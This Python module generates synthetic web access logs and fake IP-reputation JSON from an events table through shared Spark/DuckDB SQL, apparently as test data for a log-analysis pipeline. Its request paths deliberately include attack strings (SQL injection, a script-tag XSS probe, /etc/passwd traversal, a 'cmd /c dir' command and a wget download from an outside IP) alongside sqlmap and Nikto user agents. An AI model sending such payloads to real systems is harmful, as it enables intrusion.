"""access_log and reputation_raw, derived from the events table by one SQL text for Spark and DuckDB."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

_E = """e AS (SELECT event_id, user_id, event_type, value, CAST(json_extract_string(props,'$.k') AS INT) AS k,
         CAST(floor((epoch_us(ts) - 1704067200000000) / 1000000 / 720) AS BIGINT) AS sec,
         CASE WHEN event_id % 10 < 5 THEN user_id % 4 ELSE 5 + user_id % 60 END AS ipn FROM events),
f AS (SELECT *, CASE WHEN ipn = 13 THEN '10.0.0.13' WHEN ipn = 14 THEN '2001:4860:4860::14' ELSE '203.0.' || CAST(ipn % 7 AS VARCHAR) || '.' || CAST(ipn AS VARCHAR) END AS ip,
    '01/Jan/2024:' || lpad(CAST(CAST(floor(sec/3600) AS BIGINT) AS VARCHAR),2,'0') || ':'
      || lpad(CAST(CAST(floor(sec/60) AS BIGINT) % 60 AS VARCHAR),2,'0') || ':' || lpad(CAST(sec % 60 AS VARCHAR),2,'0') AS clf_ts FROM e)"""
ACCESS_LOG = f"""WITH {_E},
g AS (SELECT *,
    CASE WHEN event_type='error' THEN (CASE k % 4 WHEN 0 THEN 401 WHEN 1 THEN 403 WHEN 2 THEN 404 ELSE 500 END)
         WHEN ipn % 11 = 10 AND event_type <> 'click' THEN 404 ELSE 200 END AS status,
    CASE event_id % 97
      WHEN 0 THEN '/p?id=1%27%20UNION%20SELECT%20a%20FROM%20t'
      WHEN 1 THEN '/p?q=%3Cscript%3Ealert(1)%3C/script%3E'
      WHEN 2 THEN '/run?c=cmd%20/c%20dir' WHEN 3 THEN '/../../etc/passwd'
      WHEN 4 THEN '/index.php?x=1' WHEN 5 THEN '/wp-admin/' WHEN 6 THEN '/p?id=1%20or%201=1'
      WHEN 7 THEN '/fetch?u=wget%20http://8.8.4.4/x' WHEN 8 THEN '/a+b?drop+table=1%zz'
      ELSE '/item/' || CAST(k AS VARCHAR) || '?s=' || CAST(event_id % 3 AS VARCHAR) END AS path,
    CASE WHEN event_id % 101 = 0 THEN 'sqlmap/1.7' WHEN event_id % 103 = 0 THEN 'Nikto/2.5'
         WHEN user_id % 4 = 0 THEN 'agent/' || CAST(k % 9 AS VARCHAR)
         WHEN event_id % 5 = 0 THEN '-' ELSE 'Mozilla/5.0' END AS ua FROM f)
SELECT 'access.log' AS file_path, event_id + 1 AS line_number,
  CASE WHEN event_id % 211 = 0 THEN 'garbage line ' || CAST(event_id AS VARCHAR)
       WHEN event_id % 223 = 0 THEN '999.1.1.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1'
       WHEN event_id % 227 = 0 THEN ip || ' - - [01/Foo/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1'
       WHEN event_id % 229 = 0 THEN ip || ' - - [' || clf_ts || ' +0000] "GET / HTTP/1.1" 799 1'
       WHEN event_id % 233 = 0 THEN '   '
       WHEN event_id % 239 = 0 THEN ip || ' - - [' || clf_ts || ' +0000] "GET / HTTP/1.1" 200 12x'
       WHEN event_id % 241 = 0 THEN ip || ' - - [' || clf_ts || ' +0000] "-" 200 0'
       ELSE ip || ' - ' || CASE WHEN event_type='purchase' THEN 'u' || CAST(user_id AS VARCHAR) ELSE '-' END
         || ' [' || clf_ts || ' +0000] "GET ' || path || ' HTTP/1.1" ' || CAST(status AS VARCHAR) || ' '
         || CASE WHEN k % 11 = 0 THEN '-' ELSE CAST(CAST(floor(value) AS BIGINT) * 37 AS VARCHAR) END
         || CASE WHEN event_id % 6 = 0 THEN '' ELSE ' "http://ref.example/' || CAST(k AS VARCHAR) || '" "' || ua || '"' END END AS content
FROM g"""
REPUTATION_RAW = f"""WITH {_E},
h AS (SELECT *, CASE user_id % 9 WHEN 0 THEN 'CN' WHEN 1 THEN 'RU' WHEN 2 THEN 'IR' WHEN 3 THEN 'IN' WHEN 4 THEN 'US' WHEN 5 THEN 'DE' WHEN 6 THEN 'FR' WHEN 7 THEN 'BR' ELSE 'US' END AS cc FROM f)
SELECT ip, CASE WHEN event_id % 40 = 7 THEN 'abuseipdb' ELSE 'virustotal' END AS provider, sec AS query_sec,
  CASE WHEN event_id % 40 = 7 THEN
    '{{"data":{{"abuseConfidencePercentage":' || CAST(k AS VARCHAR) || ',"countryCode":"' || cc || '","domain":"d' || CAST(ipn AS VARCHAR) || '.example","totalReports":' || CAST(k % 20 AS VARCHAR)
      || ',"isp":"isp' || CAST(ipn % 5 AS VARCHAR) || '","reports":[{{"categories":[' || CAST(1 + k % 25 AS VARCHAR) || ',18]}}]}}}}'
  ELSE
    '{{"data":{{"attributes":{{"country":"' || cc || '","as_owner":"as' || CAST(ipn % 5 AS VARCHAR) || '","reputation":' || CAST(k - 50 AS VARCHAR)
      || ',"last_analysis_stats":{{"malicious":' || CAST(k % 4 AS VARCHAR) || ',"suspicious":' || CAST(k % 3 AS VARCHAR) || ',"harmless":' || CAST(k % 30 AS VARCHAR) || ',"undetected":' || CAST(k % 7 AS VARCHAR) || '}}}}}}}}' END AS body
FROM h WHERE event_id % 20 = 7"""

#: The same payloads from all events: the last one of each address, provider and second, so hot addresses are covered.
REPUTATION_ALL = REPUTATION_RAW.replace("event_id % 40 = 7", "event_id % 2 = 1").replace("FROM h WHERE event_id % 20 = 7", "FROM (SELECT ip, ipn, sec, max(event_id) AS event_id, max_by(k, event_id) AS k, max_by(cc, event_id) AS cc FROM h GROUP BY ip, ipn, sec, event_id % 2) AS w")


def _spark_sql(sql: str) -> str:
    return sql.replace("json_extract_string(", "get_json_object(").replace("epoch_us(ts)", "unix_micros(CAST(ts AS TIMESTAMP))").replace("VARCHAR", "STRING").replace("FROM events)", "FROM gatewarden_events)")


def _run(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    spark.read.parquet(f"{sf_dir}/events.parquet").createOrReplaceTempView("gatewarden_events")
    return spark.sql(_spark_sql(sql))


def access_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _run(spark, sf_dir, ACCESS_LOG)


def reputation_raw(spark: SparkSession, sf_dir: str, sql: str = REPUTATION_RAW) -> DataFrame:
    start = F.lit("2024-01-01 00:00:00").cast("timestamp_ntz")
    return _run(spark, sf_dir, sql).withColumn("query_ts", F.timestamp_add("SECOND", F.col("query_sec").cast("int"), start))
